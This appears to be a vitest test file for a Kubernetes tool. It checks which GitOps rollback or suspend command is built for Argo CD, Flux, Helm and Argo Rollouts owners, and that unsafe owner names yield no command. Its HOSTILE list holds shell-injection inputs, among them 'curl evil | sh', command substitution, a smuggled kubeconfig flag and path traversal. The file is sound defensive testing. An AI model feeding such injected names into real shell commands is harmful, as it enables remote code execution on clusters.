import { expect, test } from 'vitest'
import { type OwnerKind, type OwnerUndo, ownerOf } from './owner.ts'
import { ownerCommand } from './owner-command.ts'

test.each<[OwnerKind, string, OwnerUndo, string | null]>([
  ['argo_cd', 'argocd/shop', 'reverted', 'hold: argocd app set argocd/shop --self-heal=false'],
  ['argo_cd', 'shop', 'reverted', 'hold: argocd app set shop --self-heal=false'],
  ['argo_cd', 'argocd/shop', 'until_next_commit', null],
  ['flux_kustomization', 'flux-system/apps', 'reverted', 'hold: flux suspend kustomization apps -n flux-system'],
  ['flux_kustomization', 'flux-system/apps', 'until_resumed', null],
  ['flux_kustomization', 'apps', 'reverted', null],
  ['flux_helm_release', 'shop/shop', 'reverted', 'hold: flux suspend helmrelease shop -n shop'],
  ['flux_helm_release', 'shop/shop', 'until_next_upgrade', null],
  ['helm', 'edgelink/shop', 'until_next_upgrade', 'roll_back: helm rollback shop -n edgelink'],
  ['argo_rollouts', 'shop/front', 'reverted', 'roll_back: kubectl argo rollouts undo front -n shop'],
  ['flagger', 'shop/front', 'reverted', null],
  ['controller', 'Canary front', 'reverted', null],
])('what makes an undo last under %s %s, %s', (kind, name, undo, expected) => {
  const command = ownerCommand({ kind, name, undo })
  expect(command && `${command.does}: ${command.command}`).toBe(expected)
})

const HOSTILE = [
  'x; curl evil | sh #',
  'x$(id)',
  'x`id`',
  "x' y",
  'x y',
  'x\nid',
  '--kubeconfig=/tmp/evil',
  '../etc',
  'a/b/c',
  'Ümlaut',
  '',
]
test.each(HOSTILE)('a name that a shell would take for more than a name makes no command: %j', (written) => {
  const tracked = ownerOf({ labels: {}, annotations: { 'argocd.argoproj.io/tracking-id': `${written}:apps/Deployment:shop/checkout` } })
  const released = ownerOf({
    labels: {},
    annotations: { 'meta.helm.sh/release-name': written, 'meta.helm.sh/release-namespace': 'shop' },
  })
  const elsewhere = ownerOf({
    labels: {},
    annotations: { 'meta.helm.sh/release-name': 'shop', 'meta.helm.sh/release-namespace': written },
  })
  const kustomized = ownerOf({
    labels: { 'kustomize.toolkit.fluxcd.io/name': written, 'kustomize.toolkit.fluxcd.io/namespace': 'flux-system' },
    annotations: {},
  })
  const found = [tracked, released, elsewhere, kustomized].map((owner) => owner && ownerCommand(owner))
  expect(found).toEqual([null, null, null, null])
})
